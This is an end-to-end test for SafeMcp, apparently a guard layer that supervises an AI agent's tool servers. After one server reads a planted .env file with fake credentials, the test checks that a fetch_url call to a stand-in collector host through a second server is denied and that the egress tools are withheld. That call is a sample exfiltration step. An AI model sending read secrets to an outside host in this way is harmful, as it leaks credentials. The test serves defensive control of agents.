using SafeMcp.Contracts;
using SafeMcp.Testing;

namespace SafeMcp.EndToEnd.Tests;

/// <summary>
/// Two hooked server processes (the sample server started twice, as "files" and "web") that the agent host gave one
/// session key, against a real silo: one supervised session, two slices of tools that never clobber each other.
/// </summary>
public sealed class JoinedSessionTests(SiloFixture fixture) : IClassFixture<SiloFixture>
{
    private const string Secrets = "DATABASE_URL=postgres://app@db/app\nAPI_KEY=sk-live-0123456789abcdefghijklmnop\n";

    [Fact]
    public async Task A_secret_read_through_one_hooked_server_stops_egress_through_another_that_shares_the_session_key()
    {
        var key = $"agent-{Guid.NewGuid():N}";
        // "files" gets the key in its environment (SAFEMCP_SESSION_ID), "web" in every request's _meta.
        await using var files = await SampleServerSession.StartJoinedAsync(fixture.Silo.BaseAddress, fixture.ApiKey, key, "files", keyInMeta: false,
            "Check the app's configuration.", sandbox => File.WriteAllText(Path.Combine(sandbox, ".env"), Secrets));
        await using var web = await SampleServerSession.StartJoinedAsync(fixture.Silo.BaseAddress, fixture.ApiKey, key, "web", keyInMeta: true);
        using var client = fixture.NewClient();

        var filesTools = await files.ToolNamesAsync();
        var webTools = await web.ToolNamesAsync();
        var opened = await client.GetSessionAsync(key);

        // Each server opened its own slice; neither list replaced the other.
        Assert.Contains("fetch_url", filesTools);
        Assert.Contains("fetch_url", webTools);
        Assert.Equal(["files", "web"], opened.View.Servers!.Select(s => s.Server));
        Assert.Equal(filesTools, opened.View.Servers![0].VisibleTools);
        Assert.Equal(webTools, opened.View.Servers![1].VisibleTools);

        var read = await files.CallAsync("read_file", ("path", ".env"));
        var fetch = await web.CallAsync("fetch_url", ("url", "https://collector.example.net/upload?d=x"));

        Assert.False(read.IsError == true, SampleServerSession.Text(read) + files.ServerLog);
        Assert.True(fetch.IsError, SampleServerSession.Text(fetch));
        Assert.Contains("SAFE-T1914", SampleServerSession.Text(fetch));
        // web's list reflects what the other server's read withheld; its other tools stay.
        var webAfter = await web.ToolNamesAsync();
        Assert.DoesNotContain("fetch_url", webAfter);
        Assert.DoesNotContain("send_message", webAfter);
        Assert.Contains("read_file", webAfter);
        Assert.DoesNotContain("fetch_url", await files.ToolNamesAsync());

        var snapshot = await client.GetSessionAsync(key);
        Assert.Equal([("files", "read_file", Verdict.Allow), ("web", "fetch_url", Verdict.Deny)],
            snapshot.Decisions.Select(d => (d.Server!, d.Tool, d.Verdict)));
        Assert.Contains("secrets", snapshot.View.Taint);
        Assert.Contains(snapshot.View.WithheldTools, w => (w.Server, w.Name) == ("web", "fetch_url"));
        Assert.Contains(snapshot.View.WithheldTools, w => (w.Server, w.Name) == ("files", "fetch_url"));
    }
}
